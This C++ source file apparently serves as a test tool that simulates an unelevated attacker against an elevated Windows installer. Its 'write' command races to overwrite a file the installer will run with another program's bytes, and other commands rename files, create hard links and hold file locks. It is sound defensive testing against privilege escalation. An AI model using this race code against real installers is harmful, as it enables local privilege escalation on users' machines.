// Plays an unelevated program of the same user that attacks what the
// elevated installer writes and runs:
//   attacker write TARGET PROGRAM LOG
//       wants the installer to run PROGRAM: waits for TARGET to appear and to
//       be at least as long as PROGRAM, then tries, every few milliseconds, to
//       open TARGET for writing (sharing everything) and write PROGRAM's
//       bytes over its start. Appends "written" to LOG when that worked.
//       Gives up after 60 s.
//   attacker rename FROM TO
//       renames FROM (a file or a folder) to TO once; exit code 0 when it did.
//   attacker link EXISTING NEW
//       makes NEW a hard link to the file EXISTING; exit code 0 when it did.
//   attacker copy FROM TO
//       copies the file FROM to the new file TO; exit code 0 when it did.
//   attacker hold PATH SECONDS MARKER
//       holds PATH open for reading as a reader with fopen(PATH, "r") does
//       (read and write sharing, no delete sharing), for SECONDS; creates
//       MARKER once it holds it.
//   attacker lock PATH SECONDS MARKER
//       the same without any sharing, as a file scanner may open a new file.
//   attacker scan PATH SECONDS MARKER
//       the same sharing everything, delete too, as a scanner or the indexer
//       reads a file it leaves free to be deleted.

#include <windows.h>

#include <string>
#include <vector>

namespace {

std::vector<char> ReadWhole(const wchar_t* path) {
    std::vector<char> bytes;
    HANDLE file =
        CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, nullptr, OPEN_EXISTING, 0, nullptr);
    if (file == INVALID_HANDLE_VALUE)
        return bytes;
    LARGE_INTEGER size{};
    GetFileSizeEx(file, &size);
    bytes.resize(static_cast<size_t>(size.QuadPart));
    DWORD read = 0;
    ReadFile(file, bytes.data(), static_cast<DWORD>(bytes.size()), &read, nullptr);
    bytes.resize(read);
    CloseHandle(file);
    return bytes;
}

bool WriteOver(const wchar_t* target, const std::vector<char>& program) {
    HANDLE file =
        CreateFileW(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                    nullptr, OPEN_EXISTING, 0, nullptr);
    if (file == INVALID_HANDLE_VALUE)
        return false;
    LARGE_INTEGER size{};
    DWORD written = 0;
    const bool done =
        GetFileSizeEx(file, &size) && size.QuadPart >= static_cast<LONGLONG>(program.size()) &&
        WriteFile(file, program.data(), static_cast<DWORD>(program.size()), &written, nullptr) &&
        written == program.size();
    CloseHandle(file);
    return done;
}

int WriteOverWhenItCan(const wchar_t* target, const wchar_t* programPath, const wchar_t* logPath) {
    const std::vector<char> program = ReadWhole(programPath);
    if (program.empty())
        return 2;
    const ULONGLONG end = GetTickCount64() + 60000;
    while (GetTickCount64() < end) {
        if (WriteOver(target, program)) {
            HANDLE log = CreateFileW(logPath, FILE_APPEND_DATA, FILE_SHARE_READ, nullptr,
                                     OPEN_ALWAYS, 0, nullptr);
            DWORD written = 0;
            WriteFile(log, "written\n", 8, &written, nullptr);
            CloseHandle(log);
            return 0;
        }
        Sleep(2);
    }
    return 1;
}

int Hold(const wchar_t* path, const wchar_t* seconds, const wchar_t* marker, DWORD sharing) {
    HANDLE file = CreateFileW(path, GENERIC_READ, sharing, nullptr, OPEN_EXISTING, 0, nullptr);
    if (file == INVALID_HANDLE_VALUE)
        return 1;
    CloseHandle(CreateFileW(marker, GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, 0, nullptr));
    Sleep(static_cast<DWORD>(_wtoi(seconds)) * 1000);
    CloseHandle(file);
    return 0;
}

} // namespace

int wmain(int argc, wchar_t** argv) {
    const std::wstring verb = argc > 1 ? argv[1] : L"";
    if (verb == L"write" && argc == 5)
        return WriteOverWhenItCan(argv[2], argv[3], argv[4]);
    if (verb == L"rename" && argc == 4)
        return MoveFileW(argv[2], argv[3]) ? 0 : 1;
    if (verb == L"link" && argc == 4)
        return CreateHardLinkW(argv[3], argv[2], nullptr) ? 0 : 1;
    if (verb == L"copy" && argc == 4)
        return CopyFileW(argv[2], argv[3], TRUE) ? 0 : 1;
    if (verb == L"hold" && argc == 5)
        return Hold(argv[2], argv[3], argv[4], FILE_SHARE_READ | FILE_SHARE_WRITE);
    if (verb == L"lock" && argc == 5)
        return Hold(argv[2], argv[3], argv[4], 0);
    if (verb == L"scan" && argc == 5)
        return Hold(argv[2], argv[3], argv[4],
                    FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE);
    return 2;
}
